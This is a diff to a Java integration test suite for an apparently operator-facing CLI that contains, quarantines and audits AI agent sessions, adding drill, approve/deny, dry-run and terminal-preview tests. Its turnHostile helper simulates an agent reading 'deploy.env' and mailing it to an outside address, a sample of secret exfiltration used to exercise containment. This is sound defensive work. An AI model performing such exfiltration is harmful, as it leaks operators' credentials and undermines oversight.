@@ -2,6 +2,7 @@ package io.cordon.cli;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.awaitility.Awaitility.await;
+import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
@@ -21,6 +22,8 @@ import java.time.Duration;
 import java.time.Instant;
 import java.util.List;
 import java.util.Map;
+import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.TimeUnit;
 import java.util.stream.Stream;
 
 /** Each thing that operators may ask for, on real services: what was asked, what came of it at the target, and that the audit log has it. */
@@ -110,6 +113,78 @@ final class OperatorRequests {
         assertThat(last.path("state").asText()).isEqualTo("released");
     }
 
+    /** A drill that an operator announces: it ends once the canary was contained and that is proven. */
+    void drillByHand() throws Exception {
+        line.issue("x-5", "token-x-5", "mail-bot");
+        // In a thread of its own: one that waits in the common pool would keep HTTP clients from their answers.
+        var drilled = CompletableFuture.supplyAsync(
+                () -> line.cordon("drill", "x-5", "--json", "--reason", "rehearsed by hand"),
+                task -> new Thread(task, "drill").start());
+        await().atMost(PATIENCE).until(() -> line.cordon("explain", "x-5").out().contains(": followed"));
+
+        turnHostile("x-5");
+
+        Ran ran = drilled.get(PATIENCE.toSeconds(), TimeUnit.SECONDS);
+        done(ran);
+        assertThat(JSON.readTree(ran.out()).path("answer").asText()).isEqualTo("done");
+        assertThat(line.isActive("token-x-5")).isFalse();
+    }
+
+    /** Yes and no to one call by its digest, without an alert. */
+    void approveAndDeny() {
+        String[] call = {"--session", "x-6", "--arguments", "ab".repeat(32)};
+        line.issue("x-6", "token-x-6", "mail-bot");
+        done(line.cordon(with(call, "approve", "--reason", "it may do that once")));
+        done(line.cordon(with(call, "deny", "--reason", "it may not after all")));
+        assertThat(line.cordon("deny", "--reason", "which one").code()).isEqualTo(2);
+    }
+
+    /** Who would be hit, and nothing else: nothing is asked for, nothing ends. */
+    void dryRun() throws Exception {
+        String[] all = {"quarantine", "agent:mail-bot", "--dry-run", "--reason", "what if"};
+        try (AutoCloseable atWork = atWork("x-7")) {
+            Ran dry = await().atMost(PATIENCE)
+                    .until(() -> line.cordon(all), ran -> ran.out().contains("token-of-x-7"));
+            Ran document = line.cordon(with(new String[] {"--json"}, all));
+
+            done(dry);
+            assertThat(dry.out()).contains("would hit", "contained  x-7", "oauth2:tools");
+            assertThat(JSON.readTree(document.out()).path("answer").asText()).isEqualTo("preview");
+            assertThat(JSON.readTree(document.out()).at("/impact/points")).isNotEmpty();
+            assertThat(line.cordon("explain", "mail-bot").out())
+                    .contains("ada asks whom it would hit to quarantine agent mail-bot");
+            assertThat(line.cordon("list", "--all").out()).doesNotContain("agent:mail-bot");
+            assertThat(line.isActive("token-x-7")).isTrue();
+        }
+    }
+
+    /** At a terminal, what reaches further than a session is shown and asked about first. */
+    void preview() throws Exception {
+        assumeTrue(AtTerminal.isHere(), "script (util-linux), which lends a terminal, is not on this machine");
+        String[] all = {"quarantine", "agent:mail-bot", "--reason", "all of the mail"};
+
+        Ran no = line.atTerminal("n", all);
+        assertThat(no.code()).as(no.toString()).isEqualTo(1);
+        assertThat(no.out()).contains("would hit", "Go on?", "nothing was asked for");
+        assertThat(status().path("waiting")).isEmpty();
+
+        Ran yes = line.atTerminal("y", all);
+        assertThat(yes.out()).contains("would hit", "Go on?", "WAITING for a second operator");
+        assertThat(status().path("waiting")).hasSize(1);
+    }
+
+    /** A session that has begun and goes on until it is closed. */
+    private AutoCloseable atWork(String session) {
+        line.issue(session, "token-" + session, "mail-bot");
+        Emitter emitter = emitter();
+        emitter.open(SessionRequest.of("mail-bot", "mail").withSession(session));
+        return emitter;
+    }
+
+    private static String[] with(String[] call, String... command) {
+        return Stream.concat(Stream.of(command), Stream.of(call)).toArray(String[]::new);
+    }
+
     /** Each request is in the log with its answer, and the log is intact. */
     void log() throws IOException {
         Path log = directory.resolve("requests-log");
@@ -130,9 +205,13 @@ final class OperatorRequests {
                             "I saw it too",
                             "it contains the wrong ones",
                             "repaired",
+                            "rehearsed by hand",
+                            "it may do that once",
+                            "it may not after all",
                             "scheduled drill",
                             "the drill is over"))
                     .allSatisfy(reason -> assertThat(text).contains(reason));
+            assertThat(text).contains("\"reason\":\"what if\",\"preview\":true");
         }
     }
 
@@ -163,11 +242,7 @@ final class OperatorRequests {
     }
 
     private void turnHostile(String session) throws Exception {
-        try (Emitter emitter = Emitter.start(EmitterConfig.builder(OperatorLine.TENANT, "billing-runtime")
-                        .kafka(line.bootstrapServers())
-                        .registry(line.registryServer().confluentUrl())
-                        .grants(new FileGrantSource(line.key("grants")))
-                        .build());
+        try (Emitter emitter = emitter();
                 AgentSession agent =
                         emitter.open(SessionRequest.of("mail-bot", "mail").withSession(session))) {
             String file =
@@ -176,6 +251,14 @@ final class OperatorRequests {
             call(agent, ToolCall.of("files.read", Map.of("path", "deploy.env")), file);
             call(agent, ToolCall.of("mail.send", Map.of("to", "intake@cfg-checker.example", "body", file)), "sent");
         }
+    }
+
+    private Emitter emitter() {
+        return Emitter.start(EmitterConfig.builder(OperatorLine.TENANT, "billing-runtime")
+                .kafka(line.bootstrapServers())
+                .registry(line.registryServer().confluentUrl())
+                .grants(new FileGrantSource(line.key("grants")))
+                .build());
     }
 
     private static void call(AgentSession agent, ToolCall call, String result) {
